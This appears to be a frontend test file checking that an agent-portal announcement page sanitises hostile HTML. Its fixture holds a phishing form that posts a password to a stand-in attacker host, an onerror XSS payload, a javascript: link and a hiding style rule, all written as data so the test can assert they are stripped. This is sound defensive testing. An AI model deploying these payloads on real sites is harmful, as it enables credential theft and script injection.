import { renderWithPortal } from '@portal/page-kit/testing';
import { screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { AnnouncementPage } from '../components/AnnouncementPage';

/**
 * The agent announcement is platform HTML: it goes through SafeHtml, the portal's one sanitiser,
 * so a form with a password field and a button (a phishing form inside the agent centre) does not
 * survive, as it would with a sanitiser's defaults.
 */
const hostile = [
  '<p>Commission rates change on <b>1 December</b>.</p>',
  '<form action="https://evil.example/steal"><input name="password" type="password" placeholder="Confirm your password"><button>Verify now</button></form>',
  '<iframe src="https://evil.example"></iframe><img src=x onerror="alert(1)" alt="chart">',
  '<a href="javascript:alert(2)">terms</a> <a href="https://example.com/rules">rules</a><style>body{display:none}</style>',
].join('');

describe('AnnouncementPage', () => {
  it('shows an announcement’s text and safe links, and drops forms, inputs, buttons, frames, styles and scripts', async () => {
    const { container } = renderWithPortal(<AnnouncementPage />, {
      token: 'agent-token',
      responses: {
        agentAnnouncements: {
          list: [{ id: 1, title: 'Rates', content: hostile, createTime: Date.UTC(2026, 10, 1) }],
          pageNo: 1,
          pageSize: 10,
          total: 1,
          totalPages: 1,
        },
      },
    });
    expect(await screen.findByRole('heading', { name: 'Rates' })).toBeInTheDocument();
    const body = container.querySelector('li')!;
    expect(body).toHaveTextContent('Commission rates change on 1 December.');
    for (const selector of ['form', 'input', 'button', 'iframe', 'style', 'script', '[onerror]', '[style]']) {
      expect(body.querySelector(selector), selector).toBeNull();
    }
    expect(screen.queryByPlaceholderText('Confirm your password')).not.toBeInTheDocument();
    expect(screen.getByRole('link', { name: 'rules' })).toHaveAttribute('rel', expect.stringContaining('noopener'));
    expect(screen.getByText('terms').getAttribute('href')).toBeNull();
    expect(screen.getByRole('img', { name: 'chart' })).not.toHaveAttribute('onerror');
  });
});
